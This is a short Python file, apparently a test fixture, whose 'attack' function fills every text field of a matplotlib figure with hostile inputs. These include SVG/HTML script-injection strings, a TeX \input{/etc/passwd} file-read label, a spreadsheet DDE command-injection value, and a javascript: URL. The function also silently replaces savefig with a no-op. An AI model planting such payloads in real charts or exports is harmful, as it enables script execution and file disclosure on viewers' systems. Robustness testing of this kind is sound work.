"""Draws figures whose every text is a page, an SVG, a formula of TeX that reads files, or has no end.

Aim: feedback
"""

import matplotlib

matplotlib.use("Agg")
import matplotlib.pyplot as plt

PAGE = "</svg><script>alert('CARRIED')</script><img src=x onerror=alert(1)>"
plt.rcParams["text.usetex"] = False
plt.rcParams["svg.fonttype"] = "none"


def attack(*args, **kwargs):
    figure, axes = plt.subplots()
    for set_text in (axes.set_title, axes.set_xlabel, axes.set_ylabel, figure.suptitle):
        set_text(PAGE)
    axes.plot([1, 2], [9725, 9725092], label=PAGE)
    axes.set_xticks([1, 2], [r"$\mathrm{\input{/etc/passwd}}$", "=cmd|' calc'!A0"])
    axes.annotate(PAGE * 50, (1, 9725), url="javascript:alert(1)")
    axes.legend(title=PAGE)
    figure.set_label(PAGE)
    figure.savefig = lambda *args, **kwargs: None
    return figure
